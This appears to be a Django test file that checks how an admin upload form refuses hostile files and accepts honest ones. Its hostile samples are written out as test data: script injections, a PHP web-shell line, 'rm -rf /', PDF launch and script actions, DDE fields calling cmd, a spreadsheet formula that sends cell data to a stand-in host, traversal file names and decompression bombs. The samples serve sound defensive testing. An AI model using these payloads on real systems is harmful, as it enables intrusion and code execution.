"""Files that staff upload: what is taken, what is refused, and who can fetch it."""

import io
import os
import time
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.db import DatabaseError
from django.db.models.signals import post_save
from PIL import ExifTags, Image

from iomlaos.publishing.models import Revision
from programmes.models import Document, DocumentEdition
from tests.factories import make_document, make_edition, make_form, upload
from tests.uploads import (
    PAGE,
    PAGES,
    S,
    field,
    jpeg_of_size,
    linked,
    moving_png,
    multipart,
    office,
    office_of_type,
    office_parts,
    office_with,
    one_part_many_times,
    package,
    packed_pdf,
    pdf,
    pdf_in_two_parts,
    pdf_of,
    pdf_that_opens_with,
    photograph,
    picture,
    png_chunk,
    png_of_size,
    sheet,
    size_that_lies,
    streamed,
    word,
)

from .filled import errors, filled


def send(staff, document, file, **given):
    address = f"/admin/programmes/document/{document.pk}/change/"
    row = {"editions-TOTAL_FORMS": "1", "editions-0-language": "en", "editions-0-file": file}
    return staff.post(address, filled(staff.get(address), **given) | row)


def send_as_named(staff, document, name, content, **given):
    """As `send`, with the name of the file just as it stands."""
    address = f"/admin/programmes/document/{document.pk}/change/"
    values = filled(staff.get(address), **given) | {"editions-TOTAL_FORMS": "1", "editions-0-language": "en"}
    body, media_type = multipart(values, "editions-0-file", name, content)
    return staff.generic("POST", address, body, content_type=media_type)


@pytest.fixture
def arriving(settings, tmp_path) -> Path:
    """The folder in which a large file lies while it arrives."""
    folder = tmp_path / "arriving"
    folder.mkdir()
    settings.FILE_UPLOAD_TEMP_DIR = str(folder)
    return folder


def on_disk() -> list[Path]:
    return [path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()]


def test_a_pdf_is_taken_with_its_pages_and_size(staff):
    document = make_document()
    response = send(staff, document, upload("Fact sheet.pdf", pdf(3)))
    assert response.status_code == 302, errors(response)
    edition = document.editions.get()
    assert (edition.filename, edition.pages, edition.media_type) == ("Fact sheet.pdf", 3, "application/pdf")
    assert len(on_disk()) == 1


# --- Hostile files ----------------------------------------------------------------------------

NONE = "This is none of the files that are taken"
ACTS = "This PDF holds a script, an action or an attachment"
HANGS_ON_PDF = "Something that is no PDF hangs on this PDF"
HANGS_ON_PICTURE = "Something that is no picture hangs on this picture"
MACROS = "This file holds macros"
OBJECTS = "This file holds an object of another program"
FETCHES = "When it is opened, this file would fetch something from elsewhere"
OUTSIDE = "This file has parts that would be stored outside of it"
HIDDEN = "Something is hidden between the parts of this file"
BOMB = "This file unpacks to far more than a document holds"
NAME = "The name of this file holds characters that no name should"
DAMAGED_PICTURE = "This picture is damaged"

PAGE_WITH_SCRIPT = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
DRAWING = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048)
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
SCRIPTED = b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + SCRIPT + b" >>"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOC_TYPE = '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;&b;">]>'
DDE_LINK = f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
LOADS_ITSELF = f'<connections {S}><connection id="1" refreshOnLoad="1"/></connections>'

HOSTILE = {
    # What it is not
    "a page named .pdf": ("a.pdf", PAGE_WITH_SCRIPT, NONE),
    "a page named .docx": ("a.docx", PAGE_WITH_SCRIPT, NONE),
    "a scripted drawing": ("a.svg", DRAWING, NONE),
    "a scripted drawing named .png": ("a.png", DRAWING, NONE),
    "a moving picture that is a script": ("a.gif", b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)", NONE),
    "a program": ("setup.exe", b"MZ\x90\0" + bytes(512), NONE),
    "a program named .pdf": ("a.pdf", b"MZ\x90\0" + bytes(512), NONE),
    "a script": ("a.js", b"alert(1)", NONE),
    "a shell script named .pdf": ("a.pdf", b"#!/bin/sh\nrm -rf /\n", NONE),
    "a server page named .jpg": ("a.jpg", b"<?php system($_GET[0]);", NONE),
    "a Word file of the old kind": ("a.doc", OLD_OFFICE, "This is an Office file of the old kind"),
    "a locked Word file": ("a.docx", OLD_OFFICE, "or one that is locked with a password"),
    "a packed file": ("a.zip", package("a.txt"), "This is a packed file (.zip)"),
    "a packed file named .docx": ("a.docx", package("a.txt"), "This is a packed file (.zip)"),
    "an empty file": ("a.pdf", b"", "This file is empty"),
    "a PDF behind something": ("a.pdf", b"#!/bin/sh\n" + pdf(), NONE),
    # PDF
    "PDF: a script on opening": ("a.pdf", pdf_that_opens_with(SCRIPT), ACTS),
    "PDF: a script by an odd name": (
        "a.pdf", pdf_that_opens_with(b"<< /S /J#61va#53cript /#4a#53 (app.alert(1)) >>"), ACTS,
    ),
    "PDF: a script in packed objects": ("a.pdf", packed_pdf(SCRIPTED), ACTS),
    "PDF: a script added later": ("a.pdf", pdf_in_two_parts(1, CATALOGUE, SCRIPTED), ACTS),
    "PDF: a script that was replaced": ("a.pdf", pdf_in_two_parts(1, SCRIPTED, CATALOGUE), ACTS),
    "PDF: a script that no list names": (
        "a.pdf", pdf_of(CATALOGUE, PAGES, PAGE + b"\nendobj\n9 0 obj\n" + SCRIPT), ACTS,
    ),
    "PDF: an action whose kind stands elsewhere": (
        "a.pdf", pdf_that_opens_with(b"<< /S 4 0 R /F (calc.exe) >>", b"/Laun#63h"), ACTS,
    ),
    "PDF: starts a program": ("a.pdf", pdf_that_opens_with(b"<< /S /Launch /F (calc.exe) >>"), ACTS),
    "PDF: opens another file": (
        "a.pdf", pdf_that_opens_with(rb"<< /S /GoToR /F (\\\\203.0.113.9\\a.pdf) /D [0 /Fit] >>"), ACTS,
    ),
    "PDF: sends its form": ("a.pdf", pdf_that_opens_with(b"<< /S /SubmitForm /F (http://a.example/) >>"), ACTS),
    "PDF: reads a form": ("a.pdf", pdf_that_opens_with(b"<< /S /ImportData /F (a.fdf) >>"), ACTS),
    "PDF: a link that is a script": (
        "a.pdf", pdf_that_opens_with(b"<< /S /URI /URI (JavaScript:alert\\(1\\)) >>"), ACTS,
    ),
    "PDF: carries a file": ("a.pdf", pdf(change=lambda writer: writer.add_attachment("a.exe", b"MZ")), ACTS),
    "PDF: carries a file without saying so": (
        "a.pdf", pdf_of(CATALOGUE, PAGES, PAGE, b"<< /UF (a) /F (a) /EF << /F 5 0 R >> >>", b"<< >>"), ACTS,
    ),
    "PDF: a living form": ("a.pdf", pdf_of(b"<< /Pages 2 0 R /AcroForm << /XFA [] >> >>", PAGES, PAGE), ACTS),
    "PDF: a film": ("a.pdf", pdf_of(CATALOGUE, PAGES, PAGE, b"<< /Subtype /RichMedia >>"), ACTS),
    "PDF: locked": (
        "a.pdf", pdf(change=lambda writer: writer.encrypt("", "secret", algorithm="RC4-128")),
        "This PDF is locked with a password",
    ),
    "PDF: broken off": ("a.pdf", pdf(9)[:-40], "This PDF is damaged"),
    "PDF: nothing but a beginning": ("a.pdf", b"%PDF-1.7\n%%EOF", "This PDF is damaged"),
    "PDF that is a packed file": ("a.pdf", pdf() + package("a.txt"), HANGS_ON_PDF),
    "PDF that is a page": ("a.pdf", b"%PDF-1.7\n%" + PAGE_WITH_SCRIPT + b"\n" + pdf()[9:], HANGS_ON_PDF),
    "PDF with a page behind it": ("a.pdf", pdf() + PAGE_WITH_SCRIPT, HANGS_ON_PDF),
    "PDF with much behind it": ("a.pdf", pdf() + b"MZ" * 4096, HANGS_ON_PDF),
    # Office
    "Office: macros": ("a.docx", office("docx", "word/vbaProject.bin"), MACROS),
    "Office: macros by another name": (
        "a.docx", linked("docx", "vbaProject", "a.bin", "Internal"), MACROS,
    ),
    "Office: a macro document named .docx": ("a.docx", office_of_type("docx", MACRO_TYPE), MACROS),
    "Office: a macro sheet": ("a.xlsx", office("xlsx", "xl/macrosheets/sheet1.xml"), MACROS),
    "Office: controls": ("a.docx", office("docx", "word/activeX/activeX1.xml"), MACROS),
    "Office: an object": ("a.docx", office_with("docx", **{"word/embeddings/a.bin": OLD_OFFICE}), OBJECTS),
    "Office: an object elsewhere": ("a.docx", linked("docx", "oleObject", "http://a.example/a.doc!x"), OBJECTS),
    "Office: a program within": ("a.pptx", office_with("pptx", **{"ppt/media/a.png": b"MZ\x90\0"}), OBJECTS),
    "Office: a page within": ("a.docx", office_with("docx", **{"word/a.txt": PAGE_WITH_SCRIPT}), OBJECTS),
    "Office: a template elsewhere": (
        "a.docx", linked("docx", "attachedTemplate", "http://a.example/a.dotm"), FETCHES,
    ),
    "Office: a frame from elsewhere": ("a.docx", linked("docx", "frame", "http://a.example/"), FETCHES),
    "Office: a picture from elsewhere": ("a.pptx", linked("pptx", "image", "//203.0.113.9/a.png"), FETCHES),
    "Office: a link that is a script": ("a.docx", linked("docx", "hyperlink", "javascript:alert(1)"), FETCHES),
    "Office: a link that starts a tool": ("a.docx", linked("docx", "hyperlink", "ms-msdt:/id"), FETCHES),
    "Office: another workbook": ("a.xlsx", linked("xlsx", "externalLinkPath", "file:///C:/a.xlsx"), FETCHES),
    "Office: a field that starts a program": ("a.docx", word(field("DDE", "AUTO c:\\\\cmd.exe")), FETCHES),
    "Office: such a field made by another": (
        "a.docx", word(field('</w:instrText></w:r>' + field("QUOTE 68 68 69") + '<w:r><w:instrText> cmd')), FETCHES,
    ),
    "Office: such a field in short": (
        "a.docx", word('<w:p><w:fldSimple w:instr=" &#68;DE cmd "/></w:p>'), FETCHES,
    ),
    "Office: a formula that starts a program": ("a.xlsx", sheet("1+cmd|'/c calc'!A0"), FETCHES),
    "Office: such a formula in other letters": ("a.xlsx", sheet("cmd&#x7c;'/c calc'!A0"), FETCHES),
    "Office: a formula that fetches": ("a.xlsx", sheet('_xlfn.WEBSERVICE("http://a.example/"&amp;A1)'), FETCHES),
    "Office: a link to a program": (
        "a.xlsx", office_with("xlsx", **{"xl/externalLinks/externalLink1.xml": DDE_LINK}), FETCHES,
    ),
    "Office: data that loads itself": (
        "a.xlsx", office_with("xlsx", **{"xl/connections.xml": LOADS_ITSELF}), FETCHES,
    ),
    "Office: words that multiply": (
        "a.docx", office_with("docx", **{"_rels/.rels": DOC_TYPE + "<a>&c;</a>"}), "This file is damaged",
    ),
    "Office: a part above its folder": ("a.docx", office("docx", "../../../evil.txt"), OUTSIDE),
    "Office: a part from the root": ("a.docx", office("docx", "/etc/cron.d/evil"), OUTSIDE),
    "Office: a part on another drive": ("a.docx", office("docx", "C:\\evil.txt"), OUTSIDE),
    "Office: a part with a hidden ending": ("a.docx", office("docx", "word/a\x07b"), OUTSIDE),
    "Office: two parts of one name": ("a.docx", office("docx", "WORD/document.xml"), "two parts of one name"),
    "Office behind something": ("a.docx", office("docx")[:30] + b"MZ" + office("docx"), HIDDEN),
    "Office with something behind it": ("a.docx", office("docx") + PAGE_WITH_SCRIPT, HIDDEN),
    "Office with something between": (
        "a.docx", office("docx").replace(b"PK\x01\x02", PAGE_WITH_SCRIPT + b"PK\x01\x02", 1), HIDDEN,
    ),
    "Office: broken off": ("a.docx", office("docx")[:-30], "This file is damaged"),
    "Office: a bomb": ("a.docx", office_with("docx", **{"word/a.xml": bytes(99 * 1024 * 1024)}), BOMB),
    "Office: a bomb that lies": (
        "a.docx",
        size_that_lies(office_with("docx", **{"word/a.xml": bytes(9 * 1024 * 1024)}), "word/a.xml", 9),
        "This file is damaged",
    ),
    "Office: a bomb that says so": (
        "a.docx", size_that_lies(office("docx", "word/a.xml"), "word/a.xml", 2**31), BOMB,
    ),
    "Office: one part many times": ("a.docx", one_part_many_times(60), BOMB),
    "Office: one part some times": ("a.docx", one_part_many_times(6), HIDDEN),
    "Office: very many parts": ("a.docx", office("docx", *map(str, range(10_001))), BOMB),
    "Office: packed in packed": (
        "a.pptx",
        office_with(
            "pptx",
            **{"ppt/embeddings/a.xlsx": office_with("xlsx", **{"xl/embeddings/b.xlsx": office("xlsx")})},
        ),
        OBJECTS,
    ),
    "Office: macros in a chart's workbook": (
        "a.pptx", office_with("pptx", **{"ppt/embeddings/a.xlsx": office("xlsx", "xl/vbaProject.bin")}), MACROS,
    ),
    # Pictures
    "JPEG that is a server page": ("a.jpg", picture("JPEG", comment=b"<?php system($_GET[0]);"), HANGS_ON_PICTURE),
    "JPEG with a page behind it": ("a.jpg", picture("JPEG") + PAGE_WITH_SCRIPT, HANGS_ON_PICTURE),
    "JPEG that is a packed file": ("a.jpg", picture("JPEG") + package("a.txt"), HANGS_ON_PICTURE),
    "PNG that is a page": (
        "a.png",
        picture("PNG")[:33] + png_chunk(b"tEXt", b"a\0" + PAGE_WITH_SCRIPT) + picture("PNG")[33:],
        HANGS_ON_PICTURE,
    ),
    "JPEG: broken off": ("a.jpg", picture("JPEG")[:-600], DAMAGED_PICTURE),
    "PNG: broken off": ("a.png", picture("PNG")[:-40], DAMAGED_PICTURE),
    "PNG: fewer points than it says": ("a.png", png_of_size(900, 900, b"\0" * 99), DAMAGED_PICTURE),
    "PNG: a bomb": ("a.png", png_of_size(40_000, 40_000, bytes(9_000_000)), "This picture is far too large"),
    "PNG: a bomb behind few points": ("a.png", png_of_size(9, 9, bytes(9_000_000)), DAMAGED_PICTURE),
    "JPEG: a bomb": ("a.jpg", jpeg_of_size(60_000, 60_000), "This picture is far too large"),
    "PNG that moves": ("a.png", moving_png(), "This picture moves"),
    # Names
    "a name with a folder above": ("../../../evil.pdf", pdf(), NAME),
    "a name from the root": ("/etc/cron.d/evil.pdf", pdf(), NAME),
    "a name on another drive": ("C:\\Windows\\evil.pdf", pdf(), NAME),
    "a name with an end within": ("evil.exe\0.pdf", pdf(), NAME),
    "a name with a bell": ("evil\x07.pdf", pdf(), NAME),
    "a name that runs backwards": ("evil\u202efdp.exe.pdf", pdf(), NAME),
    "a name of two dots": ("..", pdf(), NAME),
    "a name of a folder in other letters": ("&#46;&#46;&#47;evil.pdf", pdf(), NAME),
    "a name with a second ending": ("report.pdf.exe", pdf(), "Give it a name that ends in “.pdf”"),
    "a name with a first ending": ("report.exe.pdf", pdf(), "The name has two endings, “.exe” and “.pdf”"),
    "a name without an ending": ("report", pdf(), "Give it a name that ends in “.pdf”"),
    "a name of another kind": ("a.docx", pdf(), "Give it a name that ends in “.pdf”"),
    "a very long name": ("a" * 251 + ".pdf", pdf(), "at most 200 characters"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "content", "reason"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_file_is_refused_with_the_reason_and_leaves_nothing(staff, arriving, name, content, reason):
    document = make_document()
    response = send_as_named(staff, document, name, content, summary_en="A new summary.")
    assert list(errors(response)) == ["file"]
    assert reason in errors(response)["file"][0]
    assert filled(response)["summary_en"] == ["A new summary."]
    assert not document.editions.exists()
    assert not on_disk()
    assert not list(arriving.iterdir())


# --- Honest files -----------------------------------------------------------------------------

CHART = {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}
HONEST = {
    "a PDF": ("Factsheet 2026.pdf", pdf(3)),
    "a PDF with packed objects": ("a.pdf", packed_pdf(CATALOGUE)),
    "a PDF that was added to": ("a.pdf", pdf_in_two_parts(4, b"<< >>", b"<< /Title (New) >>")),
    "a PDF that speaks of scripts": (
        "a.pdf", pdf_of(b"<< /Pages 2 0 R >>", PAGES, PAGE, b"<< /Title (/JS \\( /Launch <script> obj /XFA) >>"),
    ),
    "a PDF that opens at a page": ("a.pdf", pdf_that_opens_with(b"[3 0 R /XYZ 0 842 0]")),
    "a PDF with a link": (
        "a.pdf", pdf_of(CATALOGUE, PAGES, PAGE, b"<< /S /URI /URI (https://www.iom.int/) >>"),
    ),
    "a PDF with blanks behind it": ("a.pdf", pdf() + b"\r\n" + bytes(4096)),
    "a Word file": ("Form.docx", office("docx")),
    "an Excel file": ("Budget v1.2.xlsx", sheet("SUM(A2:A9)", 'A1&amp;"|"&amp;A2', "'A|B'!A1")),
    "a presentation": ("Talk.pptx", office("pptx")),
    "a Word file packed in one go": ("a.docx", streamed(office_parts("docx"))),
    "a Word file with a link": ("a.docx", linked("docx", "hyperlink", "https://www.iom.int/?a=1&amp;b=2")),
    "a Word file with a letter's link": ("a.docx", linked("docx", "hyperlink", "mailto:a@example.org")),
    "a Word file with a table of contents": ("a.docx", word(field(' TOC \\o "1-3" \\h ') + field(" PA", "GE "))),
    "a Word file that explains DDE": ("a.docx", word("<w:p><w:r><w:t>DDEAUTO c:\\cmd.exe</w:t></w:r></w:p>")),
    "a presentation with a chart": ("a.pptx", office_with("pptx", **CHART)),
    "a JPEG": ("Map.JPG", picture("JPEG")),
    "a JPEG that builds up": ("a.jpeg", picture("JPEG", progressive=True)),
    "a PNG": ("a.png", picture("PNG")),
    "a photograph": ("IMG_2026.jpg", photograph()),
    "a name in Lao": ("ແບບຟອມປະຫວັດສ່ວນຕົວ ສະບັບປັບປຸງ.pdf", pdf()),
    "a long name in Lao": ("ແບບຟອມ" * 14 + ".docx", office("docx")),
    "a name with marks": ("L'Année (2) – «Laos» №1.pdf", pdf()),
}  # fmt: skip


@pytest.mark.parametrize(("name", "content"), HONEST.values(), ids=HONEST)
def test_an_honest_file_is_taken_under_its_name(staff, name, content):
    document = make_document()
    response = send_as_named(staff, document, name, content)
    assert response.status_code == 302, errors(response)
    assert document.editions.get().filename == name
    assert len(on_disk()) == 1


@pytest.mark.parametrize(("kind", "name"), [("JPEG", "IMG_1.jpg"), ("PNG", "IMG_1.png")])
def test_a_photograph_is_stored_without_its_place_and_the_right_way_up(staff, kind, name):
    sent = photograph(kind)
    document = make_document()
    assert send_as_named(staff, document, name, sent).status_code == 302
    stored = on_disk()[0].read_bytes()
    with Image.open(io.BytesIO(sent)) as before, Image.open(io.BytesIO(stored)) as after:
        assert before.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert dict(after.getexif()) == {ExifTags.Base.Orientation: 6}
        assert after.tobytes() == before.tobytes()
    assert b"Somebody" in sent
    assert b"Somebody" not in stored
    assert document.editions.get().size == len(stored)


# --- What stays on disk -----------------------------------------------------------------------


def fails(**_given) -> None:
    raise DatabaseError("The disk of the database is full.")


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("kind", ["small", "large"])
def test_a_failed_save_leaves_no_file(staff, arriving, kind):
    """After the row of the file was saved, the database fails: all is rolled back."""
    content = pdf() if kind == "small" else pdf() + bytes(4 * 1024 * 1024)
    document = make_document()
    post_save.connect(fails, sender=DocumentEdition)
    try:
        with pytest.raises(DatabaseError):
            send(staff, document, upload("a.pdf", content))
    finally:
        post_save.disconnect(fails, sender=DocumentEdition)
    assert not document.editions.exists()
    assert not on_disk()
    assert not list(arriving.iterdir())
    assert send(staff, document, upload("a.pdf", content)).status_code == 302
    assert len(on_disk()) == 1


@pytest.mark.django_db(transaction=True)
def test_a_save_that_is_rolled_back_later_leaves_no_file(staff):
    """The file and its row are saved, and the save of the page that follows fails."""
    document = make_document()

    def fails_with_a_file(**_given) -> None:
        if document.editions.exists():
            fails()

    post_save.connect(fails_with_a_file, sender=Document)
    try:
        with pytest.raises(DatabaseError):
            send(staff, document, upload("a.pdf", pdf()))
    finally:
        post_save.disconnect(fails_with_a_file, sender=Document)
    assert not document.editions.exists()
    assert not on_disk()


@pytest.mark.django_db(transaction=True)
def test_a_replaced_file_stays_while_an_earlier_state_needs_it(staff):
    document = make_document()
    send(staff, document, upload("first.pdf", pdf(1)))
    first = on_disk()
    address = f"/admin/programmes/document/{document.pk}/change/"
    form = filled(staff.get(address)) | {"editions-0-file": upload("second.pdf", pdf(2))}
    response = staff.post(address, form)
    assert response.status_code == 302, errors(response)
    assert len(on_disk()) == 2
    assert set(first) < set(on_disk())
    assert document.editions.get().filename == "second.pdf"
    Revision.objects.all().delete()
    two_days_ago = time.time() - 2 * 24 * 3600
    for path in on_disk():
        os.utime(path, (two_days_ago, two_days_ago))
    call_command("clean_uploads", verbosity=0)
    assert len(on_disk()) == 1
    assert on_disk() != first


@pytest.mark.django_db(transaction=True)
def test_the_file_of_a_deleted_row_stays_while_an_earlier_state_needs_it(staff):
    document = make_document()
    send(staff, document, upload("first.pdf", pdf(1)))
    address = f"/admin/programmes/document/{document.pk}/change/"
    staff.post(address, filled(staff.get(address), **{"editions-0-DELETE": "on"}))
    assert not document.editions.exists()
    assert len(on_disk()) == 1
    state = Revision.objects.of(document).states()[1]
    url = staff.post(f"/admin/programmes/document/{document.pk}/restore/{state.pk}/").url
    assert staff.post(url, filled(staff.get(url))).status_code == 302
    assert staff.get(document.editions.get().get_absolute_url()).status_code == 200


def test_a_file_above_the_limit_is_refused(staff, settings):
    settings.UPLOAD_LIMIT_BYTES = 100
    response = send(staff, make_document(), upload("a.pdf", pdf()))
    assert "at most 100\xa0bytes are taken" in errors(response)["file"][0]


def test_a_good_file_in_a_refused_form_is_to_be_chosen_again(staff):
    document = make_document()
    response = send(staff, document, upload("Factsheet.pdf", pdf()), title_en="")
    assert list(errors(response)) == ["title_en"]
    assert "“Factsheet.pdf” was not kept. Choose a file again before you save." in response.content.decode()
    assert not on_disk()


def test_a_file_and_an_address_are_not_taken_together(staff):
    document = make_document()
    response = send(staff, document, upload("a.pdf", pdf()))
    address = f"/admin/programmes/document/{document.pk}/change/"
    form = filled(staff.get(address), **{"editions-0-address": "https://example.org/a"})
    response = staff.post(address, form)
    assert "Give a file, or an address elsewhere, and not both." in response.content.decode()


def test_staff_fetch_the_file_of_a_draft_and_visitors_do_not(staff, client):
    edition = make_edition(document=make_document(state="draft"), file=upload("Draft.pdf", pdf()))
    form = staff.get(f"/admin/programmes/document/{edition.document_id}/change/").content.decode()
    address = f"/admin/programmes/document/files/{edition.file_key}/"
    assert f'<a href="{address}">Draft.pdf</a>' in form
    response = staff.get(address)
    assert b"".join(response.streaming_content) == edition.file.open("rb").read()
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert "no-store" in response.headers["Cache-Control"]
    client.logout()
    assert client.get(address).status_code == 302
    for open_address in (
        f"/{edition.file.name}",
        f"/media/{edition.file.name}",
        f"/uploads/{edition.file.name}",
    ):
        assert client.get(open_address).status_code == 404


def test_a_file_that_is_not_there_is_not_found(staff):
    unknown = "0000000000004000800000000000abcd"
    assert staff.get(f"/admin/programmes/document/files/{unknown}/").status_code == 404
    assert staff.get(f"/admin/careers/applicationform/files/{unknown}/").status_code == 404


def test_a_form_for_applicants_is_uploaded_in_the_same_way(staff):
    form = make_form()
    address = f"/admin/careers/applicationform/{form.pk}/change/"
    row = {
        "versions-TOTAL_FORMS": "1",
        "versions-0-language": "lo",
        "versions-0-file": upload("PHF.pdf", pdf()),
    }
    response = staff.post(address, filled(staff.get(address)) | row)
    assert response.status_code == 302, errors(response)
    assert "PHF.pdf" in staff.get(address).content.decode()
